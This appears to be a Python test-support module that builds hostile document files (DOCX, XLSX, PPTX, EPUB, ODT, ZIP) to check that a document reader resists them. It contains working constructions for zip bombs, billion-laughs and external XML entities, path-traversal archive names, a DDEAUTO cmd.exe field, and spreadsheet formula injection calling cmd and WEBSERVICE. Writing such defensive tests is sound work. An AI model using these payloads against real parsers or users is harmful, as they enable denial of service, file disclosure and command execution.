"""Hostile Office documents, books and archives."""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from functools import cache, partial

from pptx import Presentation

from tests.support.hostile.case import READY, SECRET, Bait, Hostile
from tests.support.open_documents import open_document, zipped
from tests.support.word_files import body, with_parts, word

KEPT = "The lease ends in May."
SPACES = 40_000_000
"""Bytes of white space in a bomb: they pack a thousand times, and a part may unpack to 64 MB."""


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@cache
def docx() -> bytes:
    return word(lambda document: document.add_paragraph(KEPT))


SHEET_NAMES = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = ' TargetMode="External"'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def relations(*rows: tuple[str, str, str]) -> str:
    """Relations (id, kind, target); a target that is an address is an external one."""
    written = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"{EXTERNAL if "://" in target else ""}/>'
        for key, kind, target in rows
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{written}</Relationships>'
    )


def xlsx(rows: str = "", *, before: str = "", after: str = "", **more: str) -> bytes:
    """A workbook whose one sheet has these rows, besides one that says KEPT."""
    said = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{KEPT}</t></is></c></row>' + rows
    listed = '<sheets><sheet name="One" sheetId="1" r:id="r1"/></sheets>'
    content = f"{before}<sheetData>{said}</sheetData>{after}"
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook {SHEET_NAMES} xmlns:r="{OFFICE}">{listed}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(("r1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": f"<worksheet {SHEET_NAMES}>{content}</worksheet>",
    }
    return zipped(parts | {name.replace("__", "/"): content for name, content in more.items()})


@cache
def pptx() -> bytes:
    deck, buffer = Presentation(), io.BytesIO()
    deck.slides.add_slide(deck.slide_layouts[5]).shapes.title.text = KEPT
    deck.save(buffer)
    return buffer.getvalue()


def epub(
    chapter: str = f"<p>{KEPT}</p>", *, spine: str = '<itemref idref="a"/>', href: str = "a.xhtml", **more: str
) -> bytes:
    parts = {
        "META-INF/container.xml": '<container><rootfiles><rootfile full-path="o/b.opf"/></rootfiles></container>',
        "o/b.opf": f'<package><manifest><item id="a" href="{href}"/></manifest><spine>{spine}</spine></package>',
        "o/a.xhtml": f"<html><body>{chapter}</body></html>",
    }
    return zipped(
        {"mimetype": "application/epub+zip", **parts}
        | {name.replace("__", "/"): content for name, content in more.items()}
    )


def ods(rows: str = "") -> bytes:
    cell = f"<table:table-cell><text:p>{KEPT}</text:p></table:table-cell>"
    return open_document(
        "spreadsheet", f'<table:table table:name="One"><table:table-row>{cell}</table:table-row>{rows}</table:table>'
    )


def odt(paragraphs: str = "", **more: str) -> bytes:
    parts = {name.replace("__", "/"): own for name, own in more.items()}
    return open_document("text", f"<text:p>{KEPT}</text:p>{paragraphs}", parts=parts)


SOUND: dict[str, tuple[Callable[[], bytes], str]] = {
    "docx": (docx, "word/document.xml"),
    "xlsx": (xlsx, "xl/worksheets/sheet1.xml"),
    "pptx": (pptx, "ppt/slides/slide1.xml"),
    "epub": (epub, "o/a.xhtml"),
    "ods": (ods, "content.xml"),
    "odt": (odt, "content.xml"),
}
"""A sound file of each kind of package, and the part in it that holds the words."""


def changed(ending: str, change: Callable[[bytes], bytes]) -> bytes:
    """A sound file whose part with the words is changed."""
    make, part = SOUND[ending]
    parts = unpacked(make())
    return zipped(parts | {part: change(parts[part])})


def lie_about_sizes(archive: bytes, size: int = 900) -> bytes:
    """The archive with every file's unpacked size given as `size`."""
    data = bytearray(archive)
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(mark)
        while at >= 0:
            struct.pack_into("<I", data, at + place, size)
            at = data.find(mark, at + 4)
    return bytes(data)


def swell(data: bytes) -> bytes:
    return data + b" " * SPACES


LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a0 "ha ha ha ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 12))
    + b"]>"
)


def declare(doctype: bytes, use: bytes, data: bytes) -> bytes:
    """The XML with a document type before its root and `use` before its last words."""
    data = data.split(b"?>", 1)[-1] if data.startswith(b"<?xml") else data
    return doctype + data.replace(KEPT.encode(), use + KEPT.encode())


def fetch_entity(bait: Bait, ending: str) -> bytes:
    doctype = f'<!DOCTYPE l [<!ENTITY f SYSTEM "file://{bait.file}"><!ENTITY % w SYSTEM "{bait.url}"> %w;]>'.encode()
    return changed(ending, partial(declare, doctype, b"&f;"))


def cut(ending: str, share: float) -> bytes:
    content = SOUND[ending][0]()
    return content[: int(len(content) * share)]


def without_middle(ending: str) -> bytes:
    content = SOUND[ending][0]()
    return content[: len(content) // 3] + content[len(content) // 2 :]


def _for_each_package() -> dict[str, Hostile]:
    found = {}
    for ending in SOUND:
        name = f"report.{ending}"
        # Chapters of a book may have a document type; its entities are not taken in.
        unsafe = READY if ending == "epub" else f"unsafe_{ending}"
        found |= {
            f"{ending}: bomb": Hostile(lambda _, e=ending: changed(e, swell), name, "zip_bomb"),
            f"{ending}: bomb that lies about its size": Hostile(
                lambda _, e=ending: lie_about_sizes(changed(e, swell)), name, f"damaged_{ending}"
            ),
            f"{ending}: entities that multiply": Hostile(
                lambda _, e=ending: changed(e, partial(declare, LAUGHS, b"&a11;")), name, unsafe
            ),
            f"{ending}: entity from outside": Hostile(partial(fetch_entity, ending=ending), name, unsafe),
            f"{ending}: cut in the middle": Hostile(lambda _, e=ending: cut(e, 0.5), name, f"damaged_{ending}"),
            f"{ending}: cut at the end": Hostile(lambda _, e=ending: cut(e, 0.99), name, f"damaged_{ending}"),
            f"{ending}: middle missing": Hostile(lambda _, e=ending: without_middle(e), name, f"damaged_{ending}"),
        }
    return found


def reaching_docx(bait: Bait) -> bytes:
    """Template, picture, link, frame and part of another format, all at the bait."""
    rows = "".join(
        f'<Relationship Id="x{kind}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind, target in (
            ("attachedTemplate", bait.url),
            ("image", bait.url),
            ("hyperlink", f"file://{bait.file}"),
            ("frame", bait.url),
            ("aFChunk", f"file://{bait.file}"),
            ("subDocument", f"file://{bait.file}"),
        )
    )
    field = (
        b'<w:p xmlns:r="%s"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText>INCLUDETEXT "%s"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk xmlns:r="%s" r:id="xaFChunk"/>'
        % (OFFICE.encode(), bait.file.encode(), OFFICE.encode())
    )
    parts = {
        "word/_rels/document.xml.rels": lambda old: old.replace(
            b"</Relationships>", rows.encode() + b"</Relationships>"
        ),
        "word/document.xml": lambda old: old.replace(b"<w:sectPr", field + b"<w:sectPr", 1),
    }
    return with_parts(docx(), parts)


def calling_docx(_: Bait) -> bytes:
    said = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    said += '<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    return body(f"{said}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p><w:p><w:r><w:t>{KEPT}</w:t></w:r></w:p>")


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph(KEPT) + "</w:tc></w:tr></w:tbl>" * depth


def looping_styles(_: Bait) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/></w:style>' for n in range(3)
    ).encode()
    parts = {
        "word/styles.xml": lambda old: old.replace(b"</w:styles>", styles + b"</w:styles>"),
        "word/document.xml": lambda old: old.replace(
            KEPT.encode() + b"</w:t></w:r></w:p>",
            KEPT.encode()
            + b'</w:t></w:r></w:p><w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>Styled.</w:t></w:r></w:p>',
        ),
    }
    return with_parts(docx(), parts)


def climbing_names(_: Bait) -> bytes:
    extra = {f"{'../' * n}tmp/door-was-here-{n}": b"harm" for n in range(1, 6)} | {"/tmp/door-was-here": b"harm"}
    return zipped({**unpacked(docx()), **extra})


def twice_the_same_part(_: Bait) -> bytes:
    parts = unpacked(docx())
    buffer = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", parts["word/document.xml"].replace(KEPT.encode(), b"Another text."))
    return buffer.getvalue()


def nested_archives(depth: int, leaf: bytes) -> bytes:
    for level in range(depth):
        leaf = zipped({f"{level}-{copy}.zip": leaf for copy in range(4)})
    return leaf


def reaching_xlsx(bait: Bait) -> bytes:
    formulas = ("=cmd|' /C calc'!A0", f'WEBSERVICE("{bait.url}")', f"'file://{bait.file}'#$Sheet1.A1")
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{f}</f><v>7{n}</v></c></row>' for n, f in enumerate(formulas, 2))
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return xlsx(rows.replace("'", "&apos;"), xl__externalLinks__externalLink1=link)


def cells(*references: str) -> str:
    return "".join(
        f'<row r="{"".join(filter(str.isdigit, where))}"><c r="{where}"><v>4711</v></c></row>' for where in references
    )


def grouped_shapes(depth: int) -> bytes:
    group = b"<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>"

    def nest(data: bytes) -> bytes:
        return data.replace(b"</p:spTree>", group * depth + b"</p:grpSp>" * depth + b"</p:spTree>")

    return changed("pptx", nest)


def slide_loop(_: Bait) -> bytes:
    """A slide whose notes are itself, and which refers to itself as chart and diagram."""
    name = "ppt/slides/_rels/slide1.xml.rels"
    rows = "".join(
        f'<Relationship Id="x{kind}" Type="{OFFICE}/{kind}" Target="slide1.xml"/>'
        for kind in ("notesSlide", "chart", "diagramData")
    ).encode()
    return with_parts(pptx(), {name: lambda old: old.replace(b"</Relationships>", rows + b"</Relationships>")})


def many_members(count: int) -> bytes:
    return zipped({**unpacked(docx()), **{f"word/media/{n}.txt": b"" for n in range(count)}})


REPEATED = (
    '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384">'
    "<text:p>7</text:p></table:table-cell></table:table-row>"
)

MACROS = {
    ("docx", "report.docm"): "word/vbaProject.bin",
    ("xlsx", "book.xlsm"): "xl/vbaProject.bin",
    ("pptx", "deck.pptm"): "ppt/vbaProject.bin",
    ("odt", "letter.odt"): "Basic/Standard/x",
}
"""Kind of package and name of the file -> the part that holds its macros."""


def with_macros(ending: str, part: str) -> bytes:
    return zipped({**unpacked(SOUND[ending][0]()), part: b"\xd0\xcf\x11\xe0" + b"Shell calc.exe" * 40})


PACKAGES: dict[str, Hostile] = {
    **_for_each_package(),
    **{
        f"{ending}: macros": Hostile(
            lambda _, e=ending, p=part: with_macros(e, p), name, keeps=KEPT, leaves=("calc.exe",), told="macro"
        )
        for (ending, name), part in MACROS.items()
    },
    "docx: reaches outside in six ways": Hostile(
        reaching_docx, "r.docx", keeps=KEPT, leaves=(SECRET, "INCLUDETEXT"), told="outside it"
    ),
    "docx: a field that calls a program": Hostile(calling_docx, "r.docx", keeps=KEPT, leaves=("cmd.exe",)),
    "docx: 200,000 empty paragraphs": Hostile(
        lambda _: body("<w:p/>" * 200_000 + paragraph(KEPT)), "r.docx", keeps=KEPT
    ),
    "docx: tables in each other, 200 deep": Hostile(lambda _: body(nested_tables(60)), "r.docx", keeps=KEPT),
    "docx: tables in each other, 20,000 deep": Hostile(lambda _: body(nested_tables(20_000)), "r.docx", "damaged_docx"),
    "docx: styles that follow from each other": Hostile(looping_styles, "r.docx", keeps="Styled."),
    "docx: names that climb": Hostile(climbing_names, "r.docx", keeps=KEPT, leaves=("harm",)),
    "docx: a part twice": Hostile(twice_the_same_part, "r.docx"),
    "docx: 20,000 members": Hostile(lambda _: many_members(20_000), "r.docx", "zip_bomb"),
    "docx: in a docx": Hostile(
        lambda _: with_parts(docx(), {"word/embeddings/a.docx": lambda _: docx() * 3}), "r.docx", keeps=KEPT
    ),
    "odt: lists in each other, 20,000 deep": Hostile(
        lambda _: odt("<text:list><text:list-item>" * 20_000 + "</text:list-item></text:list>" * 20_000),
        "r.odt",
        "damaged_odt",
    ),
    "odt: 300,000 spaces that one mark stands for": Hostile(
        lambda _: odt('<text:p>a<text:s text:c="999999999"/>b</text:p>'), "r.odt", keeps=KEPT
    ),
    "zip: archives in archives": Hostile(
        lambda _: nested_archives(6, zipped({"z": b"\0" * 1_000_000})), "a.zip", told="refused"
    ),
    "zip: a bomb among sound files": Hostile(
        lambda _: zipped({"a.md": f"# Lease\n\n{KEPT}", "b.txt": b" " * SPACES}), "a.zip", keeps="a.md"
    ),
    "zip: names that climb": Hostile(
        lambda _: zipped({"../../../../tmp/door-was-here": "harm", "/etc/door": "harm", "a.md": KEPT}),
        "a.zip",
        keeps="a.md",
    ),
    "zip: 20,000 files": Hostile(lambda _: zipped({f"{n}.txt": b"x" for n in range(20_000)}), "a.zip", "zip_bomb"),
    "zip: cut in the middle": Hostile(lambda _: zipped({"a.md": KEPT * 900})[:90], "a.zip", "damaged_zip"),
    "zip: empty": Hostile(lambda _: zipped({}), "a.zip", "unsupported_type"),
    "xlsx: formulas that reach outside": Hostile(reaching_xlsx, "b.xlsx", keeps=KEPT, leaves=(SECRET, "calc")),
    "xlsx: first and last cell": Hostile(lambda _: xlsx(cells("XFD1048576")), "b.xlsx", keeps="4711"),
    "xlsx: a size that lies": Hostile(lambda _: xlsx(before='<dimension ref="A1:XFD1048576"/>'), "b.xlsx", keeps=KEPT),
    "xlsx: one merge over everything": Hostile(
        lambda _: xlsx(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "b.xlsx", keeps=KEPT
    ),
    "xlsx: 200,000 merges": Hostile(
        lambda _: xlsx(
            after="<mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:C{n + 1}"/>' for n in range(1, 200_000))
            + "</mergeCells>"
        ),
        "b.xlsx",
        keeps=KEPT,
    ),
    "xlsx: references beyond every sheet": Hostile(
        lambda _: xlsx(cells("ZZZZZZ99999999999") + '<row r="3"><c r="A3" t="s"><v>999999999</v></c></row>'),
        "b.xlsx",
        keeps=KEPT,
    ),
    "xlsx: hidden by a false ending": Hostile(lambda _: xlsx(), "rows.csv", keeps=KEPT),
    "ods: a cell repeated over everything": Hostile(lambda _: ods(REPEATED), "b.ods", keeps=KEPT, told="endless fill"),
    "ods: an empty cell repeated over everything": Hostile(
        lambda _: ods(REPEATED.replace("<text:p>7</text:p>", "")), "b.ods", keeps=KEPT
    ),
    "epub: a chapter 5,000 times in its own spine": Hostile(
        lambda _: epub(spine='<itemref idref="a"/>' * 5_000), "b.epub", keeps=KEPT
    ),
    "epub: a chapter of the machine": Hostile(
        lambda bait: epub(href=f"../../../../../..{bait.file}"), "b.epub", "no_text"
    ),
    "epub: scripts and remote pictures": Hostile(
        lambda bait: epub(f'<script src="{bait.url}">fetch()</script><img src="{bait.url}"/><p>{KEPT}</p>'),
        "b.epub",
        keeps=KEPT,
        leaves=("fetch()",),
    ),
    "epub: no chapters": Hostile(lambda _: epub(spine=""), "b.epub", "no_text"),
    "pptx: groups in each other": Hostile(lambda _: grouped_shapes(100), "d.pptx", keeps=KEPT),
    "pptx: groups in each other, 20,000 deep": Hostile(lambda _: grouped_shapes(20_000), "d.pptx", "damaged_pptx"),
    "pptx: a slide that is its own notes": Hostile(slide_loop, "d.pptx", "nested_too_deeply"),
}
